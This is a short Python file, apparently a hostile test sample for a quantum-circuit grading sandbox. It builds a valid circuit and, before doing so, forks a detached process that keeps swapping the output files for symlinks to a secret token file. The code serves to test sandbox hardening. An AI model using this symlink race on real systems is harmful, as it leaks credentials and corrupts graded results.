"""A good circuit, and a process left behind that goes on replacing it with a link to the token."""

import os
import time
from pathlib import Path

from qiskit import QuantumCircuit

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            for name in ("circuit.qpy", "outcome.json"):
                try:
                    link = Path("/quantum/work", f"{name}.link")
                    link.symlink_to("/quantum/token/token")
                    link.replace(link.with_suffix(""))
                except OSError:
                    pass
    os._exit(0)
time.sleep(0.5)

qc = QuantumCircuit(1, 1)
qc.x(0)
qc.measure(0, 0)
